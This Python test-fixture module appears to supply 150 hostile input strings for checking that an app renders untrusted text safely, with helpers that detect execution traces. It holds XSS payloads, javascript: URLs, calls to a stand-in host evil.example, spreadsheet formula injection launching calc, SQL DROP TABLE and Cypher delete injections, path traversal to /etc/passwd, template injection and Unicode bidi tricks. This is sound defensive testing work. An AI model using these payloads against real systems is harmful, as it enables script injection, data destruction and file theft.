"""150 texts that want to be more than text, by kind; each with a word of its own in it.

`§` stands for that word (`zz017`), by which a text is known again wherever it turns up; `№` for
its number, which a script that runs would call out and a request would ask for.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, replace

KINDS: dict[str, tuple[str, ...]] = {
    "scripts": (
        "<script>pwned(№)</script>§",
        "</script><script>pwned(№)</script>§",
        '"><script>pwned(№)</script>§',
        "</textarea></title><script>pwned(№)</script>§",
        "<scr<script>ipt>pwned(№)</scr</script>ipt>§",
        "<script src=//evil.example/№></script>§",
        "<ScRiPt/x>pwned(№)</sCrIpT\t>§",
        "<style>@import 'http://evil.example/№';</style>§",
        "<link rel=stylesheet href=http://evil.example/№>§",
        '<noscript><p title="</noscript><img src=x onerror=pwned(№)>">§',
        "--><script>pwned(№)</script>§",
    ),
    "event handlers": (
        "<img src=x onerror=pwned(№)>§",
        "<img/src=x/onerror=pwned(№)>§",
        "<body onload=pwned(№)>§",
        "<input autofocus onfocus=pwned(№)>§",
        "<details open ontoggle=pwned(№)>§",
        "<video><source onerror=pwned(№)></video>§",
        '" onmouseover="pwned(№)" x="§',
        "' onfocus='pwned(№)' autofocus='§",
        "<a onclick=pwned(№)>§</a>",
        'x" style="animation-name:x" onanimationstart="pwned(№)" §',
        "<iframe onload=pwned(№)></iframe>§",
    ),
    "SVG and MathML": (
        "<svg onload=pwned(№)>§",
        "<svg><script>pwned(№)</script></svg>§",
        "</svg><img src=x onerror=pwned(№)>§",
        "<svg><animate onbegin=pwned(№) attributeName=x dur=1s>§",
        "</text></g></svg><script>pwned(№)</script>§",
        '<svg><a xlink:href="javascript:pwned(№)"><text>§</text></a></svg>',
        "<svg><foreignObject><img src=x onerror=pwned(№)></foreignObject></svg>§",
        '<math><mglyph><style><!--</style><img title="--><img src=x onerror=pwned(№)>">§',
        "<image href=http://evil.example/№ />§",
    ),
    "frames and forms": (
        '<iframe srcdoc="<script>parent.pwned(№)</script>"></iframe>§',
        "<iframe src=javascript:parent.pwned(№)></iframe>§",
        '<meta http-equiv=refresh content="0;url=http://evil.example/№">§',
        "<base href=http://evil.example/№>§",
        "<form action=http://evil.example/№><button>§</button></form>",
        "<object data=http://evil.example/№></object>§",
        "<template shadowrootmode=open><img src=x onerror=pwned(№)></template>§",
    ),
    "Markdown": (
        "[§](javascript:pwned(№))",
        "[§](http://evil.example/№)",
        "![§](http://evil.example/№.png)",
        '![x](x "onerror=pwned(№)")§',
        "[§][1]\n\n[1]: http://evil.example/№",
        "<http://evil.example/№>§",
        "http://evil.example/№?q=§",
        "www.evil.example/№§",
        "someone-№@evil.example §",
        "# §",
        "> §",
        "- [ ] §",
        "***§***",
        "~~§~~",
        "`§`",
        "```\n§\n```",
        "| a | b |\n|---|---|\n| § | x |",
        "---\n§",
        "a[^1] §\n\n[^1]: note",
        "<!-- § -->",
        "&lt;img src=x onerror=pwned(№)&gt;§",
        "&#60;script&#62;pwned(№)&#60;/script&#62;§",
    ),
    "directives": (
        ":red[§]",
        ":blue-background[§]",
        ":material/home: §",
        ":material/delete_forever:§",
        ":small[§]",
        ":rainbow[§]",
        ":green-badge[§]",
        ":streamlit: §",
        ":smile: §",
        "a -- b -> c <- d >= e § ...",
        ':color[§]{foreground="red"}',
    ),
    "LaTeX": (
        "$§$",
        "$$§$$",
        r"\(§\)",
        r"$\href{javascript:pwned(№)}{§}$",
        r"\begin{equation}§\end{equation}",
    ),
    "addresses": (
        "javascript:pwned(№)//§",
        "JaVaScRiPt:pwned(№)//§",
        "java\tscript:pwned(№)//§",
        "data:text/html,<script>pwned(№)</script>§",
        "vbscript:pwned(№) §",
        "file:///etc/passwd#§",
        "//evil.example/№§",
        "http://user:word@evil.example/№§",
        "http://[::1/№§",
        "http://evil.example:99999/№?é=%22%3E%00§",
    ),
    "formulas": (
        "=cmd|' /C calc'!A№ §",
        '=HYPERLINK("http://evil.example/№","§")',
        "+1+§",
        "-2+3+§",
        "@SUM(1+1)*§",
        "\t=1+1 §",
        '"=1+1",§',
    ),
    "queries": (
        '" } UNION { ?s ?p ?o } # §',
        "' OR 1=1 -- §",
        "'; DROP TABLE runs; -- §",
        '"@en . <x:a> <x:b> <x:c> . # §',
        "SERVICE <http://evil.example/№> { ?s ?p ?o } §",
        "'}) DETACH DELETE n // §",
        'LOAD CSV FROM "http://evil.example/№" AS l §',
        '{"$where": "pwned(№)"} §',
    ),
    "paths": (
        "../../../../etc/passwd §",
        "..\\..\\windows\\win.ini §",
        "/etc/passwd%00§",
        "%2e%2e%2f§",
        "~/§",
        "C:\\§",
    ),
    "templates": (
        "{{№*7}}§",
        "${pwned(№)}§",
        "<%= pwned(№) %>§",
        "{0.__class__}§",
        "%(x)s %n %s §",
        "{§}",
        "{{constructor.constructor('pwned(№)')()}}§",
    ),
    "enders": (
        "</style>§",
        "*/ pwned(№) /* §",
        "'); pwned(№); // §",
        '"); pwned(№); // §',
        "}]};pwned(№);//§",
        'digraph { a -> b [URL="javascript:pwned(№)"] } §',
        '"]; click A call pwned(№) %% §',
        "A[§]-->B",
        '{"kind": "answered"} §',
        "__proto__ §",
    ),
    "characters": (
        "\u202e§ evil\u202c",
        "\u2066§\u2069 a",
        "a\u200bb\u200d§",
        "\ufeff§",
        "\ue000\uf8ff§",
        "\ufdd0§\uffff",
        "\U0001fffe§\U0010ffff",
        "\u0301\u0327§",
        "№§" + "\u0335\u0301" * 20,
        "👩‍👩‍👧‍👦§🏳️‍🌈🇩🇪🧨",
        "\x01\x02§\x1b[31m",
        "a\x7f\x80\x9f§",
        "a\x00b§",
        "\U000e0041§",
        "وُلِدَ في القاهرة §",
        "§ \u2028\u2029 a\u0085b",
        "\u0410d\u0430 𝐀𝐝𝐚 ﬁ §",
        "\u3164\u3164§",
        "\ufff9§\ufffb",
        "İıßſ §",
    ),
    "lengths": (
        "§ " + "long " * 200,
        "§" + "x" * 1_000,
        "§" + "<b>" * 100,
        "§" + "[" * 200,
        "§" + "*" * 200,
        "§" + "\u0301" * 200,
    ),
}


@dataclass(frozen=True)
class Hostile:
    """`word` stands in the text once."""

    number: int
    kind: str
    word: str
    text: str


def _made() -> Iterator[Hostile]:
    number = 0
    for kind, texts in KINDS.items():
        for text in texts:
            word = f"zz{number:03}"
            yield Hostile(number, kind, word, text.replace("§", word).replace("№", str(number)))
            number += 1


HOSTILE = tuple(_made())
TEXTS = tuple(one.text for one in HOSTILE)
ALL = " ".join(TEXTS)  # where one field holds all of them


def packed(most: int) -> tuple[Hostile, ...]:
    """All of them in fewer places: one in ten by itself, the others together.

    Together they take up to `most` characters, and go by the number of the first.
    """
    lots: list[list[Hostile]] = []
    for one in HOSTILE:
        alone = one.number % 10 == 0
        room = bool(lots) and lots[-1][-1].number % 10 != 0
        if not alone and room and sum(len(o.text) + 1 for o in lots[-1]) + len(one.text) <= most:
            lots[-1].append(one)
        else:
            lots.append([one])
    return tuple(replace(lot[0], text=" ".join(one.text for one in lot)) for lot in lots)


FIRST_OF_KIND = tuple(next(one for one in HOSTILE if one.kind == kind) for kind in KINDS)
WORD = re.compile(r"zz(0\d\d|1[0-4]\d)")
# What a run, a request or an element of it would show, each with the number of its text.
TRACE = re.compile(r"pwned\((\d+)\)|evil\.example(?::\d+)?/(\d+)|zz(\d{3})")
# Blanks, and what is drawn as nothing or as a box: browsers, XML and this app take it out or
# change it, each in its own way.
_UNSEEN = re.compile(
    "[\\s\x00-\x20\x7f-\xa0\xad\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b-\u200f\u2028-\u202f"
    "\u2060-\u206f\ud800-\udfff\ufdd0-\ufdef\ufeff\ufff0-\uffff\U0001fffe\U0010ffff"
    "\U000e0000-\U000e0fff]"
)


def plain(text: str) -> str:
    """What of a text has to stay, whatever shows it: all but what cannot be seen."""
    return _UNSEEN.sub("", text)


def broken(shown: str) -> dict[int, str]:
    """Which texts stand in a page otherwise than they are: number to what stands there.

    A text may be cut before or behind its word, where “…” says so.
    """
    page = plain(shown)
    found: dict[int, str] = {}
    for match in WORD.finditer(page):
        number, start, end = int(match[1]), match.start(), match.end()
        before, after = _halves(number)
        ahead, behind = page[max(0, start - len(before)) : start], page[end : end + len(after)]
        same = _alike(ahead[::-1], before[::-1])
        like = _alike(behind, after)
        whole = same == len(before) or page[: start - same].endswith("…")
        if not whole or not (like == len(after) or page.startswith("…", end + like)):
            found[number] = page[max(0, start - len(before) - 5) : end + like + 15]
    return found


def _alike(one: str, other: str) -> int:
    """How many characters they begin with together."""
    pairs = enumerate(zip(one, other, strict=False))
    return next((n for n, (a, b) in pairs if a != b), min(len(one), len(other)))


def present(shown: str) -> set[int]:
    """The numbers of the texts that a page shows, whole or cut."""
    return {int(number) for number in WORD.findall(plain(shown))}


def _halves(number: int) -> tuple[str, str]:
    one = HOSTILE[number]
    before, _, after = plain(one.text).partition(one.word)
    return before, after
